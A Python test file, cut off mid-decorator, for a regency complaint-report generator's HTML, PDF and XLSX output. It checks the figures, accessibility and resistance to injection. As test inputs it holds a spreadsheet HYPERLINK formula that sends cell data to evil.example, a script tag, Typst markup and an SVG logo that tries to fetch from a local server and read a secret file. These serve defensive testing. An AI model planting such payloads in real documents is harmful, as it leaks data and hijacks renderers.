"""One set of figures in every format: each is opened by another program and read back."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import threading
import time
import zipfile
from collections.abc import Iterator, Mapping
from dataclasses import replace
from datetime import date, datetime
from functools import cache
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import TYPE_CHECKING
from xml.etree import ElementTree
from zoneinfo import ZoneInfo

import pypdf
import pytest
from conftest import REPOSITORY
from PIL import Image
from python_calamine import CalamineWorkbook
from support.browser import Browser, browsing
from support.duty_reports import report_of as report_of_duties
from support.metric_cases import SEES, case, event_at
from support.programs import needed
from support.site_mistakes import mistakes
from support.synthetic_reports import AS_OF, RULES, view, without_rows

from settings.report import Letterhead
from settings.site import load_site
from sla.metrics.table import Cell, Measure, Row, Table
from tasks.reports.formats import xlsx_duties
from tasks.reports.formats.cell_text import column_head
from tasks.reports.formats.chart_canvas import width_of
from tasks.reports.formats.json_csv import report_csv, report_json, sha256_of
from tasks.reports.formats.sections import sections
from tasks.reports.formats.xlsx import report_xlsx
from tasks.reports.labels import Name, Names, names_of
from tasks.reports.model import Report
from tasks.reports.public_edition import public_edition
from tasks.text.catalog import catalog

if TYPE_CHECKING:
    from tasks.reports.formats.plots import Plot

ZONE = ZoneInfo("Asia/Makassar")
LOCALES = ("id", "en")
SOFFICE = shutil.which("soffice")

FORMULA = '=HYPERLINK("http://evil.example/"&A1,"klik")'
MARKUP = "<script>alert('&')</script><b>\"Dinas\"</b>"
LONG = "Dinas " + "Panjang" * 42
RTL = "مديرية الصحة"
EMOJI = "Dinas 🏥 \u202eKesehatan $x^2$ _awal"
ODD = [FORMULA, MARKUP, LONG, RTL, EMOJI, "+1", "-2", "@SUM(A1)", ""]


def odd_report(locale: str = "id") -> Report:
    """A report in which every name is unlike a name."""
    report = view(locale, units=ODD, count=100)
    odd = dict(zip(("Air Bersih", "Kesehatan", "Sampah"), (FORMULA, MARKUP, EMOJI), strict=True))
    names = {key: name for key, name in report.names.known.items() if key[0] == "rule"}
    names["rule", next(iter(RULES))] = Name(MARKUP, FORMULA)

    def changed(table: Table) -> Table:
        rows = tuple(
            replace(
                row,
                key=odd.get(row.key, row.key) if table.of == "category" else row.key,
                cells=tuple(odd.get(c, c) if isinstance(c, str) else c for c in row.cells),
            )
            for row in table.rows
        )
        return replace(table, rows=rows)

    tables = tuple(map(changed, report.tables))
    return replace(
        report,
        site=MARKUP,
        names=Names(locale, names),
        tables=tables,
        sha256=sha256_of(tables),
        letterhead=replace(report.letterhead, lines=(MARKUP, LONG, RTL)),
    )


MAKING = {
    "usual": lambda locale: view(locale, units=12, count=120),
    "odd": odd_report,
    "empty": lambda locale: without_rows(view(locale)),
    "nothing": lambda locale: view(locale, units=1, count=0),
    "public": lambda locale: public_edition(view(locale, units=12, count=90)),
}
EVERY = pytest.mark.parametrize("kind", MAKING)
BOTH = pytest.mark.parametrize("locale", LOCALES)
PAGES = pytest.mark.parametrize(
    ("kind", "locale"),
    [
        ("usual", "id"),
        ("usual", "en"),
        ("odd", "id"),
        ("empty", "en"),
        ("nothing", "id"),
        ("public", "en"),
    ],
)
"""Each kind of report once, and the usual one in both languages."""


# Making takes long, reading does not: each report is made once in each format, and only read. The
# imports inside load Typst and the fonts of matplotlib, which takes time where no report is made.


@cache
def report_of(kind: str, locale: str) -> Report:
    return MAKING[kind](locale)


def plots(report: Report) -> Mapping[str, Plot]:
    from tasks.reports.formats.plots import plots as draw  # noqa: PLC0415

    return draw(report, ZONE)


@cache
def drawn_of(kind: str, locale: str) -> Mapping[str, Plot]:
    return plots(report_of(kind, locale))


def report_html(report: Report, drawn: Mapping[str, Plot]) -> str:
    from tasks.reports.formats.html import report_html as write  # noqa: PLC0415

    return write(report, ZONE, drawn)


@cache
def page_of(kind: str, locale: str) -> str:
    return report_html(report_of(kind, locale), drawn_of(kind, locale))


@cache
def workbook_of(kind: str, locale: str) -> bytes:
    return report_xlsx(report_of(kind, locale), ZONE)


# --- figures, read back from what people see ---


def figure(text: str, locale: str) -> float | str | None:
    """The number that a reader takes from a text; what is withheld and no value as they are."""
    if text in {"*", "–"} or "%–" in text:
        return text
    plain = text.replace(".", "").replace(",", ".") if locale == "id" else text.replace(",", "")
    if plain.endswith("%"):
        return float(plain[:-1]) / 100
    return float(plain)


def same(found: object, cell: Cell, *, digits: float = 0.00051) -> bool:
    """Whether a figure read back is that of a cell, within what the format shows."""
    if cell is None:
        return found in {"–", "", None}
    if isinstance(cell, str) and "-" in cell:  # the range of a withheld share
        ends = "–".join(f"{100 * float(end):g}%" for end in cell.split("-"))
        return found == ends
    if isinstance(cell, str):
        return found == "*"
    return isinstance(found, int | float) and abs(found - float(cell)) <= digits  # type: ignore[arg-type]


def numeric(table: Table, row: Row) -> list[tuple[int, Cell, Measure]]:
    """Place, cell and measure of the figures of a row."""
    measures = [row.measure or column.measure for column in table.columns]
    return [
        (place, cell, measure)
        for place, (cell, measure) in enumerate(zip(row.cells, measures, strict=True))
        if measure in {Measure.COUNT, Measure.SHARE, Measure.DAYS}
    ]


def as_read(table: Table, row: Row) -> list[tuple[int, Cell, Measure]]:
    """The figures of a row in the order of reading: the share on time or a sum comes first."""
    order = sorted(range(len(table.columns)), key=lambda at: table.columns[at].key not in FIRST)
    found = ((order.index(place), cell, measure) for place, cell, measure in numeric(table, row))
    return sorted(found, key=lambda each: each[0])


FIRST = {"share", "ends"}


def tolerance(measure: Measure) -> float:
    """Half of the last digit that people are shown."""
    return {Measure.SHARE: 0.00051, Measure.DAYS: 0.051}.get(measure, 0)


# --- HTML ---

VOID = {"meta", "img", "br", "link", "hr", "input"}


class Page(HTMLParser):
    """A page as a tree walk sees it: tables by section, and everything that leads outside."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.tables: dict[str, list[list[str]]] = {}
        self.below: dict[str, list[str]] = {}
        self.sums: dict[str, list[list[str]]] = {}
        self.section = ""
        self.rows: list[list[str]] = []
        self.cell: list[str] | None = None
        self.skip = 0
        self.style = ""
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)
        if tag == "section":
            self.section = dict(attrs)["id"] or ""
        elif tag == "tr" and dict(attrs).get("class") == "below":
            self.rows = [[]]
        elif tag == "tr":
            kept = self.sums if "tfoot" in self.open else self.tables
            self.rows = kept.setdefault(self.section, [])
            if "thead" in self.open:  # of several rows of heads the last one counts
                self.rows.clear()
            self.rows.append([])
        elif tag in {"td", "th"}:
            self.cell = []
        elif dict(attrs).get("class") == "detail":
            self.skip = len(self.open)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        assert self.open, tag
        assert self.open.pop() == tag, (tag, self.open)
        if len(self.open) < self.skip:
            self.skip = 0
        if tag in {"td", "th"} and self.cell is not None:
            self.rows[-1].append("".join(self.cell).strip())
            self.cell = None
        if tag == "tr" and not any(
            self.rows is each.get(self.section) for each in (self.tables, self.sums)
        ):
            self.below.setdefault(self.section, []).extend(self.rows[-1])

    def handle_data(self, data: str) -> None:
        if self.open and self.open[-1] == "style":
            self.style += data
        if self.cell is not None and not self.skip:
            self.cell.append(data)


@PAGES
def test_the_page_is_well_formed_and_needs_nothing_from_outside(kind, locale):
    source = page_of(kind, locale)
    page = Page(source)
    assert source.startswith("<!DOCTYPE html>")
    assert page.open == []
    assert ("html", {"lang": locale}) in page.tags
    kinds = {tag for tag, _ in page.tags}
    assert kinds & {"script", "link", "iframe", "object", "base", "form"} == set()
    leads = [
        value
        for _, attributes in page.tags
        for name, value in attributes.items()
        if name in {"src", "href", "srcset", "action", "xlink:href", "data"}
    ]
    assert [lead for lead in leads if lead and not lead.startswith(("#", "data:"))] == []
    assert "@import" not in page.style
    assert re.findall(r"url\((?!#)", source) == []
    ids = [attributes["id"] for _, attributes in page.tags if "id" in attributes]
    assert len(ids) == len(set(ids))
    inner = {lead[1:] for lead in leads if lead and lead.startswith("#")}
    assert inner <= set(ids)
    heads = [attributes for tag, attributes in page.tags if tag == "th"]
    assert all("scope" in attributes for attributes in heads)
    assert source.count("<table") == source.count("<caption>")


@PAGES
def test_the_page_shows_the_figures_of_the_tables(kind, locale):
    from tasks.reports.formats.html import MOST_ROWS  # noqa: PLC0415

    report = report_of(kind, locale)
    page = Page(page_of(kind, locale))
    for table in report.tables:
        lines = page.tables.get(table.key, [])[1:]
        assert len(lines) == min(len(table.rows), MOST_ROWS)
        lines += page.sums.get(table.key, [])
        shown = (*table.rows[: len(lines)], *([table.total] if table.total else []))
        for line, row in zip(lines, shown, strict=True):
            shift = 0 if table.key in SINGLE else 1  # the ticket names the row
            figures = as_read(table, row)
            if table.key == "unit_trend":  # all months are a small line in words, then the last one
                assert line[1].count("%") == sum(cell is not None for cell in row.cells)
                figures, shift = figures[-1:], 2 - figures[-1][0]
            for place, cell, measure in figures:
                found = figure(line[place + shift], locale)
                assert same(found, cell, digits=tolerance(measure)), (
                    table.key,
                    row.key,
                    found,
                    cell,
                )


SINGLE = ("late", "statements")
"""Tables of single complaints: the ticket names the row."""

LINK = "https://contohkab.example/l/{ticket}"


@BOTH
def test_who_was_told_stands_below_each_late_complaint_and_its_number_is_a_link(locale):
    report = replace(report_of("usual", locale), ticket_link=LINK)
    page = Page(report_html(report, {}))
    late = report.table("late")
    assert late
    told = catalog(locale)("report.column.notified")
    assert page.below["late"] == [f"{told}: {row.cells[-1]}" for row in late.rows]
    leads = [attributes["href"] for tag, attributes in page.tags if tag == "a"]
    tickets = [LINK.format(ticket=row.cells[0]) for key in SINGLE for row in report.table(key).rows]
    assert [lead for lead in leads if lead and not lead.startswith("#")] == tickets


EXPLAIN = {
    "id": "dapat diminta kepada administrator dengan menyebut nomor pengaduan",
    "en": "can be requested from the administrator: name the complaint",
}


@BOTH
def test_each_format_says_what_proves_a_complaint(locale, tmp_path):
    report = replace(report_of("usual", locale), ticket_link=LINK)
    assert EXPLAIN[locale] in report_html(report, {})
    found = json.loads(report_json(report))
    assert found["ticket_link"] == LINK
    path = tmp_path / "r.xlsx"
    path.write_bytes(report_xlsx(report, ZONE))
    late = report.table("late")
    assert late
    rows = [row for key in SINGLE for row in report.table(key).rows]
    assert [LINK.format(ticket=row.cells[0]) for row in rows] == links_of(path)
    t = catalog(locale)
    sheets = sheets_of(path.read_bytes(), tmp_path)
    assert any(EXPLAIN[locale] in str(line) for line in sheets[t("report.sheet.cover")])
    assert [line[1] for line in sheets[t("report.section.late")][1:]] == [
        row.cells[0] for row in late.rows
    ]
    public = public_edition(report)
    for text in (report_html(public, {}), report_json(public)):
        assert EXPLAIN[locale] not in text
        assert "contohkab.example/l" not in text


def links_of(path: Path) -> list[str]:
    """Where the links of a workbook lead, in the order of their cells."""
    with zipfile.ZipFile(path) as book:
        parts = [name for name in book.namelist() if "worksheets/_rels" in name]
        texts = [book.read(name).decode() for name in parts]
    return re.findall(r'hyperlink" Target="([^"]*)" TargetMode="External"', "".join(texts))


@BOTH
def test_a_headline_tells_in_words_how_it_changed(locale):
    source = page_of("usual", locale)
    tiles = re.findall(r'data-figure="(\w+)">(.*?)</li>', source, re.DOTALL)
    said = {key: re.sub(r"<[^>]*>|\s+", " ", text) for key, text in tiles}
    up = {
        "id": "▼ turun 7 dari periode sebelumnya (127)",
        "en": "▼ down 7 from the previous period (127)",
    }
    assert up[locale] in said["received"]
    points = {"id": "poin", "en": "points"}[locale]
    assert points in said["on_time"]
    assert "▲" in said["on_time"]
    assert "▲" not in said["late"]
    assert "▼" not in said["late"]


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    with browsing(tmp_path_factory.mktemp("browser")) as opened:
        yield opened


FITS = """(() => {
  const wide = document.documentElement.scrollWidth;
  const out = [...document.querySelectorAll('body *')].filter(e =>
    !e.closest('.scroll') && !e.closest('caption') && !e.closest('svg')
    && e.getBoundingClientRect().right > innerWidth + 1).map(e => e.tagName);
  const text = [...document.querySelectorAll('figure svg text')]
    .filter(e => e.getClientRects().length).map(e => e.getBoundingClientRect().height);
  return [wide, innerWidth, out, Math.min(...text, 99)];
})()"""


@pytest.mark.browser
@PAGES
@pytest.mark.parametrize("width", [360, 1040])
def test_the_page_fits_a_phone_and_a_desk(browser, kind, locale, width):
    browser.show(page_of(kind, locale), width, phone=width < 700)
    wide, window, out, smallest = browser.run(FITS)
    assert (wide, out) == (window, [])
    assert smallest >= 7  # pixels: labels of plots can be read


SECOND = """(() => [...document.querySelectorAll('main table')].map(table => {
  const head = [...table.querySelectorAll('thead tr')].pop().cells[1];
  const rows = [...table.querySelectorAll('tbody tr:not(.below), tfoot tr')];
  const ends = [head.parentNode, ...rows].map(row => row.cells[1].getBoundingClientRect().right);
  return [table.className.split(' ')[0], head.innerText, Math.max(...ends) <= innerWidth];
}))()"""


@pytest.mark.browser
@pytest.mark.parametrize(("kind", "locale"), [("usual", "id"), ("public", "en")])
def test_a_phone_shows_the_share_on_time_next_to_the_names(browser, kind, locale):
    t = catalog(locale)
    wide = {f"by_{each}" for each in ("rule", "unit", "classification", "category", "channel")}
    browser.show(page_of(kind, locale), 360, phone=True)
    found = {key: (head, seen) for key, head, seen in browser.run(SECOND)}
    for key in wide:
        assert found[key] == (t("report.short.share"), True), key
    assert found["trend"] == (t("report.column.share"), True)
    if kind == "usual":
        assert found["ahead"] == (t("report.column.ends"), True)
    assert {seen for _, seen in found.values()} == {True}


# --- PDF ---


PRINTED = [("usual", "id"), ("odd", "en"), ("empty", "en"), ("public", "en")]
EVERY_PRINTED = pytest.mark.parametrize(("kind", "locale"), PRINTED)
FULL_PRINTED = pytest.mark.parametrize(("kind", "locale"), PRINTED[:2])


def report_pdf(report: Report, drawn: Mapping[str, Plot]) -> bytes:
    from tasks.reports.formats.pdf.report import report_pdf as write  # noqa: PLC0415

    return write(report, ZONE, drawn)


@cache
def printed(kind: str, locale: str) -> bytes:
    return report_pdf(report_of(kind, locale), drawn_of(kind, locale))


@cache
def text_of(pdf: bytes) -> list[str]:
    """The text of each page without the places where a word may break."""
    pages = pypdf.PdfReader(io.BytesIO(pdf)).pages
    return [re.sub("[\xad\u200b]", "", page.extract_text()) for page in pages]


@pytest.mark.thorough
@EVERY_PRINTED
def test_the_pdf_is_tagged_fit_for_the_archive_and_a4(kind, locale):
    reader = pypdf.PdfReader(io.BytesIO(printed(kind, locale)))
    root = reader.trailer["/Root"]
    assert root["/MarkInfo"]["/Marked"]
    assert root["/StructTreeRoot"]["/K"]
    assert root["/Lang"] == locale
    metadata = root["/Metadata"].get_object().get_data().decode()
    assert "<pdfaid:part>2</pdfaid:part><pdfaid:conformance>A</pdfaid:conformance>" in metadata
    assert "<pdfuaid:part>1</pdfuaid:part>" in metadata
    assert root["/ViewerPreferences"]["/DisplayDocTitle"]
    assert root["/OutputIntents"]
    assert reader.metadata
    assert reader.metadata.title.startswith(catalog(locale)("report.title"))
    assert reader.metadata.creation_date == AS_OF
    assert "/Filespec" not in {o.get("/Type") for o in objects(reader) if isinstance(o, dict)}
    for page in reader.pages:
        assert [round(float(side)) for side in page.mediabox[2:]] == [595, 842]
    for found in objects(reader):
        if isinstance(found, dict) and found.get("/Type") == "/FontDescriptor":
            assert {"/FontFile", "/FontFile2", "/FontFile3"} & set(found)
        if isinstance(found, dict) and found.get("/S") == "/URI":
            pytest.fail("leads outside")


def tags_of(pdf: bytes) -> list[tuple[str, str]]:
    """The tags that a screen reader meets, in order, each with its alternative text."""

    def walk(node: object) -> Iterator[tuple[str, str]]:
        found = node.get_object() if isinstance(node, pypdf.generic.PdfObject) else node
        for each in found if isinstance(found, list) else ():
            yield from walk(each)
        if isinstance(found, dict):
            if "/S" in found:
                yield str(found["/S"])[1:], str(found.get("/Alt", ""))
            yield from walk(found.get("/K"))

    return list(walk(pypdf.PdfReader(io.BytesIO(pdf)).trailer["/Root"]["/StructTreeRoot"]))


@EVERY_PRINTED
def test_a_screen_reader_meets_titles_tables_with_heads_and_charts_in_words(kind, locale):
    report, tags = report_of(kind, locale), tags_of(printed(kind, locale))
    names = [name for name, _ in tags]
    shown = [table for table in report.tables if table.rows]
    chapters = [t for t in report.tables if t.rows or t.key != "statements"]
    assert names.count("Title") == 1
    assert names.count("H1") == len(chapters) + 3  # the contents, the summary, and the method
    assert names.count("Table") == names.count("THead") == len(shown)
    detached = sum(table.key == "late" for table in shown)  # who was told stands below
    named = sum(table.key in SINGLE for table in shown)
    groups = {"by_rule": 1, "by_unit": 2, "status": 1}
    groups |= {"by_classification": 4, "by_category": 4, "by_channel": 4}
    lines = sum(len(t.columns) - 2 for t in shown if t.key == "unit_trend")  # two columns on paper
    units = sum(groups.get(table.key, -1) + 1 for table in shown)  # and one above the names
    assert (
        names.count("TH")
        == sum(len(t.columns) + 1 for t in shown) - named - detached + units - lines
    )
    said = [alt for name, alt in tags if name == "Figure"]
    expected = []
    for section in sections(report, ZONE, 300):
        plot = drawn_of(kind, locale).get(section.key)
        expected += [f"{plot.title}. {plot.says}".strip()] if plot else []
        rows = (*section.lines, *([section.total] if section.total else []))
        expected += [cell.text for line in rows for cell in line.cells if cell.picture]
    assert [re.sub("[\xad\u200b]", "", alt) for alt in said] == expected


def objects(reader: pypdf.PdfReader) -> Iterator[object]:
    for number in range(1, int(reader.trailer["/Size"])):
        yield reader.get_object(pypdf.generic.IndirectObject(number, 0, reader))


@pytest.mark.thorough
@EVERY_PRINTED
def test_the_pdf_has_page_numbers_contents_and_bookmarks(kind, locale):
    t = catalog(locale)
    report = report_of(kind, locale)
    reader = pypdf.PdfReader(io.BytesIO(printed(kind, locale)))
    pages = text_of(printed(kind, locale))
    for number, page in enumerate(pages, 1):
        assert f"{t('report.page')} {number} {t('report.page_of')} {len(pages)}" in page
    shown = [table.key for table in report.tables if table.rows or table.key != "statements"]
    titles = [t(f"report.section.{key}") for key in shown] + [t("report.method")]
    marks = [f"{number}. {title}" for number, title in enumerate(titles, 1)]
    marks.insert(0, t("report.executive.title"))
    outline = [each for each in reader.outline if not isinstance(each, list)]
    assert [each.title for each in outline] == marks
    contents = " ".join(pages[0].split())
    for mark, each in zip(marks, outline, strict=True):
        page = reader.get_destination_page_number(each)
        assert page is not None
        assert mark in " ".join(pages[page].split())
        assert re.search(rf"{re.escape(mark)}[ .]*{page + 1}\b", contents), (mark, page + 1)


OUT_OF = re.compile(
    r"dari [\d.]+ (?:pengaduan|kewajiban yang dinilai)|dengan [\d.]+ kewajiban terlambat"
    r"|of [\d,]+ (?:complaints?|evaluated dut(?:y|ies))|with [\d,]+ late dut(?:y|ies)"
)
"""The numbers that means, medians and shares are computed of."""


@BOTH
def test_the_number_behind_each_share_and_median_stands_beside_it(locale):
    report = report_of("usual", locale)
    t, headline = catalog(locale), report.table("headline")
    evaluated = sum(row.cells[0] for row in report.table("by_rule").rows)
    complaints = len(headline.row("received").tickets)
    counted = {
        row.key: t("report.of_duties", n=evaluated)
        if row.key == "on_time"
        else t("report.of_complaints", n=complaints)
        for row in headline.rows
        if row.measure is not Measure.COUNT
    }
    assert len(counted) == 9
    source = page_of("usual", locale)
    table = source.partition('<table class="headline')[2].partition("</table>")[0]
    said = re.findall(r'</strong><span class="detail">([^<]*)</span>', table)
    assert said == list(counted.values())
    tile = re.search(r'data-figure="on_time">(.*?)</li>', source, re.DOTALL)
    assert counted["on_time"] in tile[1]
    late = headline.value("late_duties", "value")
    assert t("report.with_duties", n=late) in source


@pytest.mark.parametrize(("kind", "locale"), [PRINTED[0], PRINTED[3]])
def test_the_pdf_shows_the_figures_of_the_tables(kind, locale):
    report = report_of(kind, locale)
    stream = " ".join(" ".join(text_of(printed(kind, locale))).split())
    small = catalog(locale)("report.small")
    tokens = [
        token
        for token in OUT_OF.sub(" ", stream.replace(small, " ")).split()
        if re.fullmatch(r"\d[\d.,]*%?(–\d+%)?|[*–]", token)
    ]
    for table in report.tables:
        if table.key in {"late", "quality"}:
            continue
        for row in table.rows:
            wanted = as_read(table, row)[-1 if table.key == "unit_trend" else 0 :]
            found = any(
                all(
                    same(figure(token, locale), cell, digits=tolerance(measure))
                    for token, (_, cell, measure) in zip(tokens[at:], wanted, strict=False)
                )
                for at in range(len(tokens) - len(wanted) + 1)
            )
            assert found, (table.key, row.key, wanted)


@FULL_PRINTED
def test_the_pdf_bears_letterhead_and_signature(kind, locale):
    pages = text_of(printed(kind, locale))
    if kind == "usual":
        assert "PEMERINTAH KABUPATEN CONTOH" in pages[0]
    assert "Jalan Merdeka Nomor 1" in pages[0]
    day = {"id": "Contoh, 2 Desember 2026", "en": "Contoh, 2 December 2026"}[locale]
    last = pages[-1]
    parts = [day, "Inspektur Kabupaten Contoh,", "Drs. H. Baharintan Dolo", "NIP 19680412"]
    places = [last.index(part) for part in parts]
    assert places == sorted(places)


@FULL_PRINTED
def test_the_pdf_says_what_proves_a_complaint(kind, locale):
    assert EXPLAIN[locale] in " ".join(" ".join(text_of(printed(kind, locale))).split())


@pytest.mark.thorough
def test_an_interim_report_has_no_signature():
    report = report_of("empty", "id")
    for interim in (False, True):
        said = " ".join(text_of(report_pdf(replace(report, interim=interim), {})))
        assert ("Drs. H. Baharintan Dolo" in said) is not interim
        assert ("Sementara: periode ini belum berakhir" in said) is interim


@pytest.mark.thorough
@PAGES
def test_no_report_has_a_command_line_or_a_word_of_the_program(kind, locale):
    report = report_of(kind, locale)
    for text in (page_of(kind, locale), " ".join(text_of(report_pdf(report, {})))):
        assert re.findall(r"tenggat \w+ --?\w+|tenggat (?:summary|explain)", text) == []
        assert re.findall(r"\b(?:placeholder|recalled|carried_over|benefit_of_doubt)\b", text) == []


TYPST = '#pagebreak() $x$ *b* _i_ `c` @late <a> [k] \\\\ = // /* ~ --- #image("/a") 1. - + '
"""What Typst would carry out or set otherwise, were it a part of its program."""


def test_no_name_is_carried_out_as_a_program_of_the_pdf():
    usual = report_of("empty", "id")
    notes = replace(usual.notes, vacancies=((TYPST, "head_of_unit"),))
    table = replace(usual.table("by_category"), rows=(Row(TYPST, (1,) * 11),))
    report = replace(usual, site=TYPST, notes=notes, tables=(table,))
    stream = "".join("".join(text_of(report_pdf(report, {}))).split())
    expected = "".join(TYPST.split())
    assert stream.count(expected) >= 3  # the title page, the heads of pages, and a row
    assert "Daftarisi" in stream


FORBIDDEN = "a\x00b\x1bc\ue000d\U0010fffee\ufffff\u0001"


@pytest.mark.thorough
def test_characters_that_no_archive_takes_become_a_sign_in_the_pdf():
    usual = report_of("empty", "id")
    report = replace(usual, notes=replace(usual.notes, vacancies=((FORBIDDEN, "head_of_unit"),)))
    assert "a�b�c�d�e�f�" in " ".join(text_of(report_pdf(report, {})))


@pytest.mark.thorough
def test_a_table_begins_with_its_heading_and_three_rows_on_one_page_and_repeats_its_head():
    """With so many units the next table has room for some rows on the same page, or for none."""
    t, broken = catalog("id"), []
    for units in (24, 25, 26):
        report = view("id", units=units, count=units * 4)
        tables = tuple(table for table in report.tables if table.key in {"by_unit", "trend"})
        pages = text_of(report_pdf(replace(report, tables=tables), {}))[1:]
        (page,) = (page for page in pages if f"2. {t('report.section.trend')}" in page)
        assert [month for month in ("Nov 2025", "Des 2025", "Jan 2026") if month not in page] == []
        ends = next(page for page in pages if "Okt 2026" in page)
        head = f"{t('report.of.month')} {t('report.column.share')}"
        assert head in " ".join(ends.split())
        broken.append(ends is not page)
    assert broken == [True, True, False]


def test_a_table_ends_with_three_rows_and_its_total_on_one_page():
    """With so many units only the last rows have no room on the first page."""
    t = catalog("id")
    report = view("id", units=34, count=136)
    report = replace(report, tables=(report.table("by_unit"),))
    names = [line.name.text for line in sections(report, ZONE, 300)[0].lines]
    pages = [" ".join(page.split()) for page in text_of(report_pdf(report, {}))]
    (page,) = (page for page in pages if f" {t('report.total')} " in page)
    assert [name for name in names[-3:] if name not in page] == []
    assert f"{names[0]} " not in page


@pytest.mark.parametrize("ending", [".png", ".jpg", ".svg"])
def test_the_coat_of_arms_is_in_the_pdf(ending, tmp_path):
    logo = tmp_path / f"logo{ending}"
    if ending == ".svg":
        logo.write_text('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><rect/></svg>')
    else:
        Image.new("RGB", (8, 9), "green").save(logo)
    report = replace(
        report_of("empty", "id"), letterhead=Letterhead(logo=logo, lines=("PEMERINTAH CONTOH",))
    )
    assert [alt for name, alt in tags_of(report_pdf(report, {})) if name == "Figure"] == [
        "PEMERINTAH CONTOH"
    ]


@pytest.mark.parametrize("ending", [".png", ".jpg", ".svg"])
def test_a_damaged_coat_of_arms_leaves_only_itself_out(ending, tmp_path):
    logo = tmp_path / f"logo{ending}"
    logo.write_bytes(b"\x89PNG\r\n\x1a\nno picture")
    report = replace(
        report_of("empty", "id"), letterhead=Letterhead(logo=logo, lines=("PEMERINTAH CONTOH",))
    )
    assert "PEMERINTAH CONTOH" in text_of(report_pdf(report, {}))[0]


def test_the_pdf_is_the_same_when_it_is_made_again_elsewhere(monkeypatch):
    """At another hour, in another zone and language of the machine, and in another folder."""
    made = [report_pdf(report_of("empty", "id"), {})]
    monkeypatch.setenv("TZ", "America/New_York")
    monkeypatch.setenv("LANG", "tr_TR.UTF-8")
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1")
    monkeypatch.chdir("/")
    time.tzset()
    try:
        made.append(report_pdf(report_of("empty", "id"), {}))
    finally:
        monkeypatch.undo()
        time.tzset()
    assert made[0] == made[1]
    assert pypdf.PdfReader(io.BytesIO(made[0])).metadata.creation_date == AS_OF  # not the clock


class Listening(BaseHTTPRequestHandler):
    """Notes who asks."""

    def do_GET(self) -> None:
        self.server.asked.append(self.path)  # type: ignore[attr-defined]
        self.send_response(404)
        self.end_headers()

    def log_message(self, *_: object) -> None:
        pass


@pytest.mark.thorough
def test_no_logo_makes_the_report_ask_the_network_or_read_other_files(tmp_path):
    server = HTTPServer(("127.0.0.1", 0), Listening)
    server.asked = []  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        place = f"http://127.0.0.1:{server.server_port}"
        secret = tmp_path / "secret.svg"
        secret.write_text('<svg xmlns="http://www.w3.org/2000/svg"><text>rahasia</text></svg>')
        logo = tmp_path / "logo.svg"
        logo.write_text(
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
            f' viewBox="0 0 9 9"><style>@import url({place}/style.css);</style>'
            f'<image href="{place}/picture.png" width="9" height="9"/>'
            f'<image xlink:href="{secret.as_uri()}" width="9" height="9"/>'
            f'<use href="{place}/other.svg#a"/><rect width="9" height="9" fill="#00f"/></svg>',
            encoding="utf-8",
        )
        report = replace(
            report_of("empty", "id"), letterhead=Letterhead(logo=logo, lines=("Contoh",))
        )
        made = report_pdf(report, {})
        assert server.asked == []  # type: ignore[attr-defined]
        assert "rahasia" not in " ".join(text_of(made))
        with_logo = report_html(report, {})
        assert "data:image/svg+xml;base64," in with_logo
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


# --- XLSX ---


def sheets_of(
    workbook: bytes, tmp_path: Path, name: str = "r.xlsx"
) -> dict[str, list[list[object]]]:
    path = tmp_path / name
    path.write_bytes(workbook)
    book = CalamineWorkbook.from_path(path)
    return {sheet: book.get_sheet_by_name(sheet).to_python() for sheet in book.sheet_names}


def compare(report: Report, sheets: dict[str, list[list[object]]], locale: str) -> int:
    """Compare every cell of every table with the workbook; returns how many were."""
    t, compared = catalog(locale), 0
    for table in report.tables:
        head, *lines = sheets[t(f"report.section.{table.key}")[:31]]
        assert head[0] == t(f"report.of.{table.of}")
        heads = [column_head(column, report.names) for column in table.columns]
        start = head.index(heads[0], 1) if heads else len(head)
        more = [t("report.column.months")] if table.key == "unit_trend" else []
        assert head[start:] == [*heads, *more] or not heads
        rows = (*table.rows, *([table.total] if table.total else []))
        assert len(lines) == len(rows)
        for line, row in zip(lines, rows, strict=True):
            is_sum = row is table.total
            name = t("report.total") if is_sum else report.names(table.of, row.key).text
            assert line[0] == name
            for place, cell, measure in numeric(table, row):
                found = line[start + place]
                assert same(found, cell, digits=1e-9), (table.key, row.key, measure, found, cell)
                compared += 1
            own = line[start : start + len(heads)]
            for column, cell, found in zip(table.columns, row.cells, own, strict=True):
                if isinstance(cell, date):
                    day = found.date() if isinstance(found, datetime) else found
                    assert day == cell
                elif column.measure is Measure.TEXT and not row.measure:
                    assert found == cell
    return compared


@EVERY
@BOTH
def test_the_workbook_holds_the_tables_cell_by_cell(kind, locale, tmp_path):
    report = report_of(kind, locale)
    sheets = sheets_of(workbook_of(kind, locale), tmp_path)
    assert compare(report, sheets, locale) > 10 or kind == "empty"
    for name in sheets:
        assert 0 < len(name) <= 31
        assert not set(name) & set("[]:*?/\\")
    t = catalog(locale)
    cover = [str(cell) for line in sheets[t("report.sheet.cover")] for cell in line]
    assert report.sha256 in cover
    assert any("2026-12-02 09:30" in cell for cell in cover)


@BOTH
def test_the_workbook_lists_the_complaints_behind_each_row(locale, tmp_path):
    report, t = report_of("usual", locale), catalog(locale)
    sheets = sheets_of(workbook_of("usual", locale), tmp_path)
    found = [(line[0], line[2], line[3]) for line in sheets[t("report.sheet.evidence")][1:]]
    assert found == [
        (t(f"report.section.{table.key}"), row.key, ticket)
        for table in report.tables
        for row in table.rows
        for ticket in row.tickets
    ]
    public = sheets_of(report_xlsx(public_edition(report), ZONE), tmp_path, "p.xlsx")
    assert t("report.sheet.evidence") not in public


@BOTH
@pytest.mark.parametrize("edition", [lambda report: report, public_edition])
